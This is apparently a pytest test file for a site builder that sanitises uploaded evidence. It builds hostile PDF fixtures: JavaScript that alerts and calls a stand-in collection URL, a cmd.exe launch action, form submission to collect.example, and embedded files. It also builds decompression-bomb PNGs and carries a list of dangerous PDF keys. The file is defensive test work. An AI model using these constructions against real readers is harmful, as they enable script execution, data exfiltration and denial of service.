"""Evidence files made by someone hostile: PDFs that run scripts, act or carry files, PDFs with a password,
images too large to decode. Each fixture is made here with pypdf or by hand; what the site publishes is read
back, object by object and every stream decompressed."""

from __future__ import annotations

import io
import re
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from conftest import BASE, BUILD, make_site, run_build
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

MARK = "CasefileActiveMarker"  # in every script, address and attachment (letters: never escaped in a PDF string)
SECRET = f"Informant: Ko Aung, +95 9 555 0100 ({MARK})".encode()  # the text of every embedded file
SQUARE = b"0 0 1 rg 50 50 200 200 re f"  # the visible page: a blue square


def pdf(value: object) -> PdfObject:
    """A PDF object from plain Python: a dict, a list, a /Name, a text, a number, a bool."""
    if isinstance(value, PdfObject):
        return value
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): pdf(item) for key, item in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf(item) for item in value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, bool):
        return BooleanObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    raise TypeError(value)


def stream(data: bytes, **entries: object) -> StreamObject:
    """A compressed stream: what it holds is not in the file's bytes as written."""
    made = DecodedStreamObject()
    made.set_data(data)
    made.update({NameObject(f"/{key}"): pdf(value) for key, value in entries.items()})
    return made.flate_encode()


def script() -> DictionaryObject:
    return pdf({"/S": "/JavaScript", "/JS": f"app.alert('{MARK}'); app.launchURL('https://collect.example/')"})


def page_writer() -> PdfWriter:
    """One page with a blue square on it, and nothing else."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 300)
    page[NameObject("/Contents")] = writer._add_object(stream(SQUARE))
    return writer


def attached(writer: PdfWriter, name: str) -> IndirectObject:
    """A file specification with an embedded file holding SECRET, compressed."""
    data = writer._add_object(stream(SECRET, Type="/EmbeddedFile", Subtype="/text#2Fplain"))
    return writer._add_object(pdf({"/Type": "/Filespec", "/F": name, "/UF": name, "/EF": {"/F": data}}))


def annotate(writer: PdfWriter, annotation: dict) -> IndirectObject:
    """``annotation`` on the page, over the square."""
    made = writer._add_object(pdf({"/Type": "/Annot", "/Rect": [50, 50, 250, 250], "/Border": [0, 0, 0]} | annotation))
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([*page.get("/Annots", []), made])
    return made


def link(writer: PdfWriter, action: dict | DictionaryObject) -> None:
    annotate(writer, {"/Subtype": "/Link", "/A": pdf(action)})


def names(writer: PdfWriter, tree: str, *pairs: object) -> None:
    """A name tree of the catalog's /Names: /JavaScript or /EmbeddedFiles."""
    holder = writer.root_object.setdefault(NameObject("/Names"), DictionaryObject())
    holder[NameObject(tree)] = pdf({"/Names": list(pairs)})


def form_field(writer: PdfWriter) -> None:
    field = annotate(writer, {"/Subtype": "/Widget", "/FT": "/Tx", "/T": "amount", "/AA": {"/K": script()}})
    writer.root_object[NameObject("/AcroForm")] = pdf({"/Fields": [field]})


def bookmark(writer: PdfWriter) -> None:
    outlines = writer._add_object(pdf({"/Type": "/Outlines", "/Count": 1}))
    item = writer._add_object(pdf({"/Title": "Open the contract", "/Parent": outlines, "/A": script()}))
    outlines.get_object().update({NameObject("/First"): item, NameObject("/Last"): item})
    writer.root_object[NameObject("/Outlines")] = outlines


def xfa(writer: PdfWriter) -> None:
    template = f'<template><subform><event activity="initialize"><script>{MARK}</script></event></subform></template>'
    writer.root_object[NameObject("/AcroForm")] = pdf(
        {"/Fields": [], "/XFA": writer._add_object(stream(template.encode()))}
    )


# Each kind of active content: how it is put into a PDF, and what the build says it removed.
ACTIVE: dict[str, tuple[Callable[[PdfWriter], None], str]] = {
    "open-action": (lambda w: w.root_object.update({NameObject("/OpenAction"): script()}), "JavaScript (open action)"),
    "document-script": (lambda w: names(w, "/JavaScript", "init", script()), "JavaScript (document script)"),
    "script-in-a-stream": (
        lambda w: names(
            w, "/JavaScript", "init", pdf({"/S": "/JavaScript", "/JS": w._add_object(stream(MARK.encode()))})
        ),
        "JavaScript (document script)",
    ),
    "document-action": (
        lambda w: w.root_object.update({NameObject("/AA"): pdf({"/WC": script()})}),
        "JavaScript (document action)",
    ),
    "page-action": (
        lambda w: w.pages[0].update({NameObject("/AA"): pdf({"/O": script()})}),
        "JavaScript (page action)",
    ),
    "annotation-action": (
        lambda w: annotate(w, {"/Subtype": "/Text", "/Contents": "note", "/AA": {"/E": script()}}),
        "JavaScript (annotation action)",
    ),
    "form-field-action": (form_field, "JavaScript (form field action)"),
    "bookmark-script": (bookmark, "JavaScript (bookmark)"),
    "script-link": (lambda w: link(w, script()), "JavaScript (link)"),
    "javascript-uri": (
        lambda w: link(w, {"/S": "/URI", "/URI": f"javascript:app.alert('{MARK}')"}),
        "javascript: link",
    ),
    "chained-script": (
        lambda w: link(w, {"/S": "/URI", "/URI": "https://example.org/contract", "/Next": script()}),
        "JavaScript (chained action)",
    ),
    "launch-action": (
        lambda w: link(w, {"/S": "/Launch", "/F": f"{MARK}.exe", "/Win": {"/F": "cmd.exe", "/P": f"/c {MARK}"}}),
        "launch action (link)",
    ),
    "submit-form": (
        lambda w: link(w, {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": f"https://collect.example/{MARK}"}}),
        "form submission (link)",
    ),
    "import-data": (lambda w: link(w, {"/S": "/ImportData", "/F": f"{MARK}.fdf"}), "data import (link)"),
    "remote-go-to": (
        lambda w: link(w, {"/S": "/GoToR", "/F": f"{MARK}.pdf", "/D": [0, "/Fit"]}),
        "link to another file (link)",
    ),
    "embedded-go-to": (
        lambda w: link(w, {"/S": "/GoToE", "/T": {"/R": "/C", "/N": MARK}, "/D": [0, "/Fit"]}),
        "link into an embedded file (link)",
    ),
    "rich-media-command": (
        lambda w: link(w, {"/S": "/RichMediaExecute", "/CMD": {"/C": MARK}}),
        "rich media command (link)",
    ),
    "rendition-script": (lambda w: link(w, {"/S": "/Rendition", "/OP": 0, "/JS": MARK}), "JavaScript (link)"),
    "embedded-file": (lambda w: names(w, "/EmbeddedFiles", "notes.txt", attached(w, "notes.txt")), "embedded file"),
    "attachment-annotation": (
        lambda w: annotate(w, {"/Subtype": "/FileAttachment", "/FS": attached(w, "notes.txt"), "/Contents": "notes"}),
        "embedded file (attached to the page)",
    ),
    "associated-file": (
        lambda w: w.root_object.update({NameObject("/AF"): pdf([attached(w, "source.txt")])}),
        "embedded file (associated file)",
    ),
    "xfa-form": (xfa, "XFA form (can run scripts)"),
}


def active_pdf(kind: str) -> bytes:
    writer = page_writer()
    ACTIVE[kind][0](writer)
    out = io.BytesIO()
    writer.write(out)
    assert MARK.encode() in b"".join(_streams(out.getvalue())) + out.getvalue(), "the fixture carries its payload"
    assert active_content(out.getvalue()), "the fixture is active"
    return out.getvalue()


def media_list(names: list[str]) -> str:
    return "media:\n" + "".join(f"  - file: {name}\n    caption: A document\n" for name in names)


def site_with(root: Path, files: dict[str, bytes], site_yaml: str = BASE["site.yaml"]) -> Path:
    """The base site whose actor 'russia' lists ``files`` (beside it) under ``media:``."""
    actor = "content/actors/russia.yaml"
    listed = {actor: BASE[actor] + media_list(list(files)), "site.yaml": site_yaml}
    return make_site(root, dict(BASE) | listed | {f"content/actors/{name}": data for name, data in files.items()})


@pytest.fixture(scope="module")
def active_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    site = site_with(tmp_path_factory.mktemp("active") / "site", {f"{kind}.pdf": active_pdf(kind) for kind in ACTIVE})
    result = run_build(site)
    assert result.returncode == 0, result.stderr
    return site, result.stderr


def published_pdf(site: Path, stem: str) -> Path:
    (found,) = (site / "output" / "media").glob(f"{stem}-*.pdf")
    return found


def _streams(raw: bytes) -> Iterator[bytes]:
    """Every stream in the file's bytes, decompressed where it can be: object streams and embedded files too,
    whether or not any object refers to them."""
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\n?endstream", raw, re.DOTALL):
        try:
            yield zlib.decompress(match.group(1))
        except zlib.error:
            yield match.group(1)


DANGER = {
    "/JS", "/JavaScript", "/AA", "/OpenAction", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/EF", "/AF",
    "/XFA", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/RichMediaExecute", "/Rendition", "/FileAttachment",
}  # fmt: skip


def active_content(raw: bytes) -> list[str]:
    """Whatever in the PDF ``raw`` could run, act or carry a file: every object the file lists, walked to
    its leaves (names as keys or values, texts, stream contents), and the raw bytes with every stream inflated."""
    found: list[str] = []
    reader = PdfReader(io.BytesIO(raw))
    numbers = {number for table in reader.xref.values() for number in table} | set(reader.xref_objStm)
    seen: set[int] = set()
    todo: list[object] = [reader.get_object(number) for number in sorted(numbers)] + [reader.trailer]
    while todo:
        item = todo.pop()
        if isinstance(item, IndirectObject):
            item = item.get_object()
        if id(item) in seen:
            continue
        seen.add(id(item))
        if isinstance(item, DictionaryObject):
            found += [str(key) for key in item if key in DANGER]
            todo += item.values()
            if isinstance(item, StreamObject) and (MARK.encode() in item.get_data() or SECRET in item.get_data()):
                found.append("the payload in a stream")
        elif isinstance(item, ArrayObject):
            todo += item
        elif isinstance(item, NameObject) and item in DANGER:
            found.append(str(item))
        elif isinstance(item, str) and ("javascript:" in item.lower() or MARK in item):
            found.append(f"the text {item!r}")
    if any(MARK.encode() in data or SECRET in data for data in [raw, *_streams(raw)]):
        found.append("the payload in the file's bytes")
    return found


def removed_from(stderr: str, name: str) -> list[str]:
    """What the build's removal report says the published copy of content/actors/``name`` was made without."""
    (line,) = [line for line in stderr.splitlines() if line.startswith(f"content/actors/{name}: ")]
    return line.removeprefix(f"content/actors/{name}: published without ").split(", ")


@pytest.mark.parametrize("kind", ACTIVE)
def test_active_content_never_reaches_readers_and_the_page_stays(active_build: tuple[Path, str], kind: str) -> None:
    site, stderr = active_build
    published = published_pdf(site, kind)
    assert active_content(published.read_bytes()) == []
    reader = PdfReader(published)
    assert len(reader.pages) == 1 and reader.pages[0].get_contents().get_data() == SQUARE  # the page as it was
    assert active_content((site / f"content/actors/{kind}.pdf").read_bytes()), "the original is untouched"
    assert ACTIVE[kind][1] in removed_from(stderr, f"{kind}.pdf")
    assert MARK not in stderr and "Traceback" not in stderr


def test_a_link_keeps_its_address_when_a_script_chained_to_it_goes(active_build: tuple[Path, str]) -> None:
    site, _ = active_build
    (annotation,) = PdfReader(published_pdf(site, "chained-script")).pages[0]["/Annots"]
    action = annotation.get_object()["/A"]
    assert (action["/S"], action["/URI"]) == ("/URI", "https://example.org/contract") and "/Next" not in action


def refused_build(root: Path, files: dict[str, bytes], site_yaml: str = BASE["site.yaml"]) -> str:
    """The errors of a build of the base site listing ``files``, which must fail cleanly."""
    site = site_with(root, files, site_yaml)
    result = run_build(site)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and "Warning" not in result.stderr, result.stderr
    assert not (site / "output").exists()
    return result.stderr


def portfolio() -> bytes:
    """A PDF portfolio: a cover page, and the documents it shows as embedded files."""
    writer = page_writer()
    names(writer, "/EmbeddedFiles", "contract.txt", attached(writer, "contract.txt"))
    writer.root_object[NameObject("/Collection")] = pdf({"/Type": "/Collection", "/View": "/D"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def dynamic_form() -> bytes:
    """An XFA form whose pages its scripts draw; the page in the file only asks to wait."""
    writer = page_writer()
    xfa(writer)
    writer.root_object[NameObject("/NeedsRendering")] = BooleanObject(True)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_pdfs_whose_content_is_active_are_refused_at_their_line(tmp_path: Path) -> None:
    stderr = refused_build(tmp_path / "site", {"portfolio.pdf": portfolio(), "form.pdf": dynamic_form()})
    at = "content/actors/russia.yaml"
    assert f"{at}:6:11: error: 'portfolio.pdf' is a PDF portfolio: the documents in it are embedded files" in stderr
    assert "hint: publish each document in it as a PDF of its own" in stderr
    assert f"{at}:8:11: error: 'form.pdf' is a dynamic XFA form: its pages are drawn by its scripts" in stderr
    assert "hint: print it to a new PDF, and publish that" in stderr


def locked(**password: str) -> bytes:
    writer = page_writer()
    writer.encrypt(**password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_a_pdf_restricted_by_an_owner_password_alone_is_published_unlocked(tmp_path: Path, algorithm: str) -> None:
    original = locked(user_password="", owner_password="only-the-owner-knows", algorithm=algorithm)
    assert PdfReader(io.BytesIO(original)).is_encrypted
    site = site_with(tmp_path / "site", {"restricted.pdf": original})
    result = run_build(site)
    assert result.returncode == 0, result.stderr
    reader = PdfReader(published_pdf(site, "restricted"))
    assert not reader.is_encrypted and reader.pages[0].get_contents().get_data() == SQUARE
    assert "owner-password restrictions" in removed_from(result.stderr, "restricted.pdf")
    assert (site / "output/actors/russia.html").read_text(encoding="utf-8").count("restricted-") >= 2  # link, picture


def test_a_pdf_that_needs_a_password_to_open_is_refused_in_those_words(tmp_path: Path) -> None:
    stderr = refused_build(tmp_path / "site", {"secret.pdf": locked(user_password="secret", algorithm="AES-256")})
    assert "content/actors/russia.yaml:6:11: error: 'secret.pdf' needs a password to open" in stderr
    assert "hint: publish an unlocked copy: open it with its password and print it to a new PDF" in stderr


def huge_png(width: int, height: int, colour: bool) -> bytes:
    """A PNG of one colour, written row by row: a few hundred KB on disk, ``width`` × ``height`` pixels."""
    depth, kind, row = (8, 2, b"\0" + b"\x20\x40\xa0" * width) if colour else (1, 0, b"\0" + bytes((width + 7) // 8))
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


# Runs a command and prints the peak memory of its process tree in KB: each build measured alone.
PEAK = (
    "import resource, subprocess, sys; subprocess.run(sys.argv[1:]); "
    "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
)


@pytest.mark.parametrize(("width", "height", "colour"), [(20000, 20000, False), (12000, 12000, True)])
def test_an_image_over_the_pixel_limit_is_refused_before_it_is_decoded(
    tmp_path: Path, width: int, height: int, colour: bool
) -> None:
    image = "content/actors/scan.png"
    files = dict(BASE) | {
        "content/actors/russia.yaml": BASE["content/actors/russia.yaml"]
        + "media:\n  - file: scan.png\n    alt: A scan\n",
        image: huge_png(width, height, colour),
    }
    site = make_site(tmp_path / "site", files)
    assert struct.unpack(">II", (site / image).read_bytes()[16:24]) == (width, height)  # as its header says
    measured = subprocess.run(
        [sys.executable, "-c", PEAK, sys.executable, str(BUILD), "--site", "."],
        cwd=site, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    megapixels = f"{width * height // 1_000_000}"
    assert (
        f"content/actors/russia.yaml:6:11: error: 'scan.png' is {width}×{height} pixels ({megapixels} megapixels), "
        "over the limit of 100 megapixels" in measured.stderr
    ), measured.stderr
    assert "hint: publish a smaller copy, or raise max_image_megapixels in site.yaml" in measured.stderr
    assert "DecompressionBomb" not in measured.stderr and "Traceback" not in measured.stderr
    assert "damaged" not in measured.stderr and str(site) not in measured.stderr
    assert not (site / "output").exists()
    peak_mb = int(measured.stdout.split()[-1]) / 1024
    assert peak_mb < 400, f"the build peaked at {peak_mb:.0f} MB"


def test_the_pixel_limit_is_set_in_site_yaml(tmp_path: Path) -> None:
    photo = io.BytesIO()
    Image.new("RGB", (1200, 1000), "grey").save(photo, "JPEG")
    actor = "content/actors/russia.yaml"
    files = {
        actor: BASE[actor] + "media:\n  - file: pier.jpg\n    alt: The pier\n",
        "content/actors/pier.jpg": photo.getvalue(),
    }
    site = make_site(
        tmp_path / "site", dict(BASE) | files | {"site.yaml": BASE["site.yaml"] + "max_image_megapixels: 1\n"}
    )
    result = run_build(site)
    assert result.returncode == 1
    assert (
        "russia.yaml:6:11: error: 'pier.jpg' is 1200×1000 pixels (1.2 megapixels), over the limit of 1 megapixels"
        in (result.stderr)
    )
    make_site(site, {"site.yaml": BASE["site.yaml"] + "max_image_megapixels: 1.5\n"})
    result = run_build(site)
    assert result.returncode == 0, result.stderr


def test_a_pdf_with_flaws_a_viewer_forgives_is_published_without_the_library_s_notes(tmp_path: Path) -> None:
    out = io.BytesIO()
    page_writer().write(out)
    flawed = out.getvalue().replace(b"/Type /Catalog", b"/Type /Catalog\n/Type /Catalog")  # the offsets now wrong
    site = site_with(tmp_path / "site", {"flawed.pdf": flawed})
    result = run_build(site)
    assert result.returncode == 0, result.stderr
    assert PdfReader(published_pdf(site, "flawed")).pages[0].get_contents().get_data() == SQUARE
    assert [line for line in result.stderr.splitlines() if not line.startswith(("content/", "built "))] == []


def test_an_image_is_decoded_only_as_the_format_its_name_says(tmp_path: Path) -> None:
    tiff = io.BytesIO()
    Image.new("RGB", (60, 40), "grey").save(tiff, "TIFF")  # Pillow reads 40 formats; the site publishes three
    actor = "content/actors/russia.yaml"
    files = {
        actor: BASE[actor] + "media:\n  - file: scan.png\n    alt: A scan\n",
        "content/actors/scan.png": tiff.getvalue(),
    }
    site = make_site(tmp_path / "site", dict(BASE) | files)
    result = run_build(site)
    assert result.returncode == 1
    assert "content/actors/russia.yaml:6:11: error: 'scan.png' is not a readable image" in result.stderr
